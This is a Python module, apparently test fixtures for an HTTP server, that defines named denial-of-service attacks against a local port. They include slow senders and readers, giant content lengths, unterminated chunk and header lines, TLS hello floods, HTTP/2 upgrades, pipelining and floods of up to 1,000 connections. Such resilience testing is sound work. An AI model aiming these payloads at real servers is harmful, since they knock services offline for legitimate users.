"""What clients do that means harm: each attack opens its connections and returns what it continues doing while it lasts."""

import contextlib
import socket
from collections.abc import Callable
from contextlib import ExitStack

STRANGER = "127.0.0.2"  # another client than the one that asks whether the others are served
HEAD = b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
PAGE = b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"
TLS_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(range(256)) * 2
Step = Callable[[], None]
Attack = Callable[[ExitStack], Step]


def connect(stack: ExitStack, port: int, *, buffer_bytes: int = 0, address: str = STRANGER) -> socket.socket:
    """Return a connection that is closed with the stack."""
    client = stack.enter_context(socket.socket())
    if buffer_bytes:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer_bytes)
    client.settimeout(30)
    client.bind((address, 0))
    client.connect(("127.0.0.1", port))
    return client


def attack(port: int, count: int, data: bytes, *, drip: bytes = b"", buffer_bytes: int = 0, half_closed: bool = False) -> Attack:
    """Return an attack of `count` connections that send `data`, and then `drip` in each step."""

    def begin(stack: ExitStack) -> Step:
        clients = []
        for _ in range(count):
            with contextlib.suppress(OSError):  # a server may not accept all of them
                client = connect(stack, port, buffer_bytes=buffer_bytes)
                clients.append(client)
                client.settimeout(0.2 if buffer_bytes else 5)
                with contextlib.suppress(OSError):
                    client.sendall(data)
                if half_closed:
                    client.shutdown(socket.SHUT_WR)

        def step() -> None:
            for client in clients if drip else ():
                with contextlib.suppress(OSError):
                    client.send(drip, socket.MSG_DONTWAIT)

        return step

    return begin


def attacks(port: int) -> dict[str, Attack]:
    """Return the attacks by name: the seven that once stopped a vault, and those of the same kinds."""
    upload = HEAD + b"Content-Length: 900000\r\n\r\n"
    upgrade = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: %b\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nHost: x\r\n\r\n"
    known = {
        "a body in chunks of one byte": attack(port, 6, CHUNKED + b"1\r\na\r\n" * 150_000 + b"0\r\n\r\n"),
        "a length of 19 digits": attack(port, 7, HEAD + b"Content-Length: 1000000000000000000\r\n\r\n", drip=b"a"),
        "a chunk of 2 MB": attack(port, 7, CHUNKED + b"1e8480\r\n", drip=b"a"),
        "a chunk line without end": attack(port, 7, CHUNKED + b"5;" + b"x" * 300, drip=b"x"),
        "a size of 20 digits": attack(port, 7, CHUNKED + b"0" * 20, drip=b"0"),
        "15 readers that do not read": attack(port, 15, PAGE * 150, buffer_bytes=2048),
        "8 slow uploads over 1 MB": attack(
            port, 8, HEAD + b"Content-Length: 3000000\r\n\r\n" + bytes(1_200_000), drip=b"a" * 2000
        ),
    }
    own = {
        "1,000 idle connections": attack(port, 1000, b""),
        "200 slow senders": attack(port, 200, upload + b"a" * 1000, drip=b"a" * 100),
        "200 slow readers": attack(port, 200, PAGE * 20, buffer_bytes=2048),
        "100 hellos of TLS": attack(port, 100, TLS_HELLO, drip=b"\x00"),
        "100 heads of 32 KB without end": attack(
            port, 100, b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 4000, drip=b"X: y\r\n"
        ),
        "50 bodies in small chunks without end": attack(port, 50, CHUNKED + b"2\r\nab\r\n" * 20_000, drip=b"2\r\nab\r\n" * 100),
        "50 pipelines of 200 requests": attack(port, 50, PAGE.replace(b" / ", b" /keys ") * 200),
        "50 mixes of HEAD and GET": attack(port, 50, (PAGE.replace(b"GET", b"HEAD") + PAGE.replace(b" / ", b" /no ")) * 30),
        "200 half-closed connections": attack(port, 200, PAGE, half_closed=True, buffer_bytes=2048),
        "200 that expect 100-continue": attack(
            port, 200, HEAD + b"Expect: 100-continue\r\nContent-Length: 500000\r\n\r\n", drip=b"a"
        ),
        "100 upgrades": attack(port, 100, (b"GET / HTTP/1.1\r\n" + upgrade % b"h2c") + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        "100 empty chunks with trailers": attack(port, 100, CHUNKED + b"0\r\n" + b"X-T: a\r\n" * 1000, drip=b"X-T: a\r\n"),
        "100 requests at once, six pages each": attack(port, 100, PAGE * 6),
    }

    def all_at_once(stack: ExitStack) -> Step:
        steps = [own[name](stack) for name in ("1,000 idle connections", "200 slow senders", "200 slow readers")]

        def step() -> None:
            for one in steps:
                one()

        return step

    return {**known, **own, "idle, senders and readers at once": all_at_once}
